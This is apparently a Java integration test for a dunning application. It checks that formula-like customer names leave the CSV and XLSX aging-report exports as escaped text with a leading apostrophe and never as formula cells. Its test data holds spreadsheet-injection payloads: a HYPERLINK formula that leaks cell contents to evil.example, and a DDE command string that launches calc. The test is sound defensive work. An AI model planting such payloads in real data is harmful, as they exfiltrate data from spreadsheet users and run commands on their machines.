package dev.dunning.reports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpStatus;
import org.springframework.http.ResponseEntity;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import dev.dunning.clock.BusinessClock;
import dev.dunning.ledger.DebtPositions;
import dev.dunning.support.Api;
import dev.dunning.support.DunningTest;

/**
 * Customers imported with names that a spreadsheet would run as formulas (the hostile registry catalogue's
 * formulas.csv) are stored as they came, and leave in the CSV and XLSX exports as text with a leading apostrophe,
 * in XLSX as string cells, never formula cells.
 */
@DunningTest
class FormulaExportsTest {

    @Autowired
    TestRestTemplate rest;

    @Autowired
    BusinessClock clock;

    @Autowired
    DebtPositions positions;

    private final String p = "FX" + UUID.randomUUID().toString().substring(0, 8) + "-";
    private final String building = p + "building";

    @Test
    void aCustomerNamedLikeAFormulaIsExportedAsTextThatCannotRun() throws Exception {
        List<String> names = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1",
                "-2+3", "@SUM(A1:A9)", "Plain Name");
        StringBuilder customers = new StringBuilder("customer_id,name,group,building\n");
        StringBuilder invoices = new StringBuilder("invoice_id,customer_id,service,due_on,amount\n");
        for (int i = 0; i < names.size(); i++) {
            customers.append(p).append("C").append(i).append(",\"").append(names.get(i).replace("\"", "\"\""))
                    .append("\",individual,").append(building).append('\n');
            invoices.append(p).append("I").append(i).append(',').append(p).append("C").append(i).append(",water,")
                    .append(clock.today().minusDays(40)).append(",100.00\n");
        }
        Api admin = Api.as(rest, "admin");
        assertThat(admin.importCsv("customers", customers.toString())).containsEntry("rejected", 0);
        assertThat(admin.importCsv("invoices", invoices.toString())).containsEntry("rejected", 0);
        positions.refreshAll();
        List<String> exported = names.stream().map(name -> name.startsWith("Plain") ? name : "'" + name).toList();

        List<String> csvNames = new ArrayList<>();
        try (CsvReader<CsvRecord> csv = CsvReader.builder().ofCsvRecord(new StringReader(
                new String(download("/reports/aging.csv?building=" + building), StandardCharsets.UTF_8)))) {
            csv.stream().skip(1).forEach(record -> csvNames.add(record.getField(1)));
        }
        assertThat(csvNames).containsExactlyInAnyOrderElementsOf(exported);

        List<String> xlsxNames = new ArrayList<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(download("/reports/aging.xlsx?building=" + building)))) {
            Sheet sheet = workbook.getSheetAt(0);
            for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                Row row = sheet.getRow(r);
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).as("row %d, column %d", r, cell.getColumnIndex()).isNotEqualTo(CellType.FORMULA);
                }
                assertThat(row.getCell(1).getCellType()).isEqualTo(CellType.STRING);
                xlsxNames.add(row.getCell(1).getStringCellValue());
            }
        }
        assertThat(xlsxNames).containsExactlyInAnyOrderElementsOf(exported);
    }

    private byte[] download(String path) {
        ResponseEntity<byte[]> response = rest.withBasicAuth("manager", "manager").getForEntity(path, byte[].class);
        assertThat(response.getStatusCode()).as(path).isEqualTo(HttpStatus.OK);
        return response.getBody();
    }
}
